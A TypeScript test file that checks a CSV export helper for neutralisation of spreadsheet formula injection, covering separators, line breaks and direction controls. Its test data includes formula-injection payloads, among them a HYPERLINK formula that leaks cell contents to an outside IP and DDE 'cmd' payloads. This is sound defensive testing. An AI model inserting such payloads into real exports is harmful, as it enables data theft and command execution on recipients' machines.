import { parse } from "csv-parse/sync";
import { describe, expect, it } from "vitest";
import { csvResponse, type CsvColumn } from "~/web/csv-export.server";

/**
 * Formula injection in the CSV exports (enquiries, contact queries): the real csvResponse, read back with a
 * real CSV parser, the way a spreadsheet opens it with "," and with ";" as the separator (Excel in many
 * European locales), where a ";" inside a value starts a cell of its own.
 */
type Row = { id: number; text: string };
const COLUMNS: CsvColumn<Row>[] = [
  { header: "id", value: (r) => r.id },
  { header: "text", value: (r) => r.text },
  { header: "after", value: () => "end" },
];

async function exportRows(texts: string[]): Promise<string> {
  async function* pages() {
    yield texts.map((text, i) => ({ id: i + 1, text }));
  }
  return csvResponse("t.csv", COLUMNS, pages()).text();
}

/** The text column as a spreadsheet with "," as the separator reads it. */
async function cells(texts: string[]): Promise<string[]> {
  const rows = parse(await exportRows(texts), { bom: true, columns: true }) as Record<string, string>[];
  expect(rows.map((r) => r.after)).toEqual(texts.map(() => "end"));
  return rows.map((r) => r.text);
}

const RISKY_START = /^\s*[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;

const risky: [string, string][] = [
  ["a formula", '=HYPERLINK("http://203.0.113.9/?leak="&A1,"Click")'],
  ["a phone number with its country code", "+91 98450 12345"],
  ["a DDE payload", "-2+3+cmd|' /C calc'!A0"],
  ["an @ function", "@SUM(1+1)*cmd|' /C calc'!A0"],
  ["a leading tab", "\t=1+1"],
  ["a leading carriage return", "\r=1+1"],
  ["blanks before a formula", "   =1+1"],
  ["a full-width equals sign", "\uFF1D1+1"],
  ["a formula after a semicolon", 'Weekend batch;=HYPERLINK("http://203.0.113.9","x")'],
  ["a formula after a semicolon and a blank", "Weekend batch; +cmd|' /C calc'!A0"],
  ["a formula after a comma", "Pune,@SUM(1+1)"],
  ["two formulas after separators", "a;=1+1, -2+3;\t=4"],
  ["a formula after a line feed", 'Hello\n=HYPERLINK("http://203.0.113.9/?leak="&A1,"Click")'],
  ["a formula after a carriage return", "Hello\r+cmd|' /C calc'!A0"],
  ["a formula after CR LF and blanks", "Hello\r\n   @SUM(1+1)"],
  ["a formula after a Unicode line separator", "Hello\u2028-2+3"],
  ["formulas on several lines", "Hi\n=1+1\nthanks\n\n+2"],
];

const ordinary = [
  "Ravi Kumar",
  "ravi.k+soc@example.com",
  "9845012345",
  "SOC Analyst - Level 1",
  "C++ and Python basics",
  "Mumbai, India",
  "cv.pdf; photo.jpg",
  "Q&A: is the 2-week batch online?",
  "2026-01-05T09:30:00.000Z",
  'He said "call me"; thanks',
  "Line one\nLine two",
  "Line one\r\nLine two\nLine three - with a dash inside the line",
];

describe("CSV export formula neutralisation", () => {
  it("gives each value that could start a formula a leading apostrophe, read back with a CSV parser", async () => {
    const read = await cells(risky.map(([, v]) => v));
    read.forEach((cell, i) => {
      const [label, value] = risky[i];
      expect(cell.startsWith("'"), label).toBe(true);
      // Nothing is lost: the apostrophes added are all that changed.
      expect(cell.slice(1).replace(/([,;\r\n\u2028])'/g, "$1"), label).toBe(value);
    });
    expect(read[1]).toBe("'+91 98450 12345");
    expect(read[0]).toBe(`'${risky[0][1]}`);
    expect(read[8]).toBe(`'Weekend batch;'=HYPERLINK("http://203.0.113.9","x")`);
    expect(read[9]).toBe("'Weekend batch;' +cmd|' /C calc'!A0");
    expect(read[11]).toBe("'a;'=1+1,' -2+3;'\t=4");
    expect(read[12]).toBe(`'Hello\n'=HYPERLINK("http://203.0.113.9/?leak="&A1,"Click")`);
    expect(read[13]).toBe("'Hello\r'+cmd|' /C calc'!A0");
    expect(read[14]).toBe("'Hello\r\n'   @SUM(1+1)");
    expect(read[16]).toBe("'Hi\n'=1+1\nthanks\n\n'+2");
  });

  it("starts no line of any cell with a formula, in every column, read back with a CSV parser", async () => {
    const texts = risky.map(([, v]) => v);
    async function* pages() {
      yield texts.map((text, i) => ({ id: i, name: `Ravi\n=${i}`, text, note: `ok\r-${i}` }));
    }
    const columns: CsvColumn<{ id: number; name: string; text: string; note: string }>[] = [
      { header: "name", value: (r) => r.name },
      { header: "text", value: (r) => r.text },
      { header: "note", value: (r) => r.note },
    ];
    const rows = parse(await csvResponse("t.csv", columns, pages()).text(), { bom: true, columns: true }) as Record<string, string>[];
    expect(rows).toHaveLength(texts.length);
    for (const row of rows) {
      for (const cell of Object.values(row)) {
        // A program that splits a cell at its line breaks (or shows each line as a cell) sees no line start a formula.
        for (const line of cell.split(/\r\n|[\r\n\u2028]/)) expect(line, JSON.stringify(cell)).not.toMatch(RISKY_START);
      }
    }
    expect(rows[0].name).toBe("'Ravi\n'=0");
    expect(rows[0].note).toBe("'ok\r'-0");
  });

  it("drops direction controls, which would show a name reversed", async () => {
    expect(await cells(["\u202EnalaM iveD", "Ravi \u2066Kumar\u2069"])).toEqual(["nalaM iveD", "Ravi Kumar"]);
  });

  it("quotes each neutralised value", async () => {
    const raw = await exportRows(["+91 98450 12345", "Weekend batch;=1+1"]);
    expect(raw).toContain(`,"'+91 98450 12345",`);
    expect(raw).toContain(`,"'Weekend batch;'=1+1",`);
  });

  it("leaves ordinary values as they are", async () => {
    expect(await cells(ordinary)).toEqual(ordinary);
  });

  it('starts no cell with a formula when the file is opened with ";" as the separator', async () => {
    const raw = await exportRows([...risky.map(([, v]) => v), ...ordinary]);
    // Such a program splits every line at each ";", inside quoted values too (they do not start its cells).
    const split = parse(raw, { bom: true, delimiter: ";", relax_quotes: true, relax_column_count: true }) as string[][];
    const starts = split.flat();
    expect(starts.length).toBeGreaterThan(risky.length);
    for (const cell of starts) expect(cell, JSON.stringify(cell)).not.toMatch(RISKY_START);
  });
});

describe("a CSV download's start", () => {
  const decode = (bytes: ArrayBuffer | Uint8Array) => new TextDecoder("utf-8", { ignoreBOM: true }).decode(bytes);

  it("sends the byte-order mark and the header row before the database's first page has come", async () => {
    let release: () => void = () => {};
    const firstPage = new Promise<void>((resolve) => (release = resolve));
    async function* pages() {
      await firstPage;
      yield [{ id: 1, text: "one" }];
    }
    const reader = csvResponse("t.csv", COLUMNS, pages()).body!.getReader();
    // Read while the first page is still held back: a header that waited for it would hang here (the test's timeout).
    let sent = "";
    while (!sent.endsWith("\r\n")) sent += decode((await reader.read()).value!);
    expect(sent).toBe("\uFEFFid,text,after\r\n");
    release();
    let rest = "";
    for (let chunk = await reader.read(); !chunk.done; chunk = await reader.read()) rest += decode(chunk.value);
    expect(rest).toBe("1,one,end\r\n");
  });

  it("is the header row alone when nothing matches", async () => {
    async function* pages() {}
    expect(decode(await csvResponse("t.csv", COLUMNS, pages()).arrayBuffer())).toBe("\uFEFFid,text,after\r\n");
  });
});
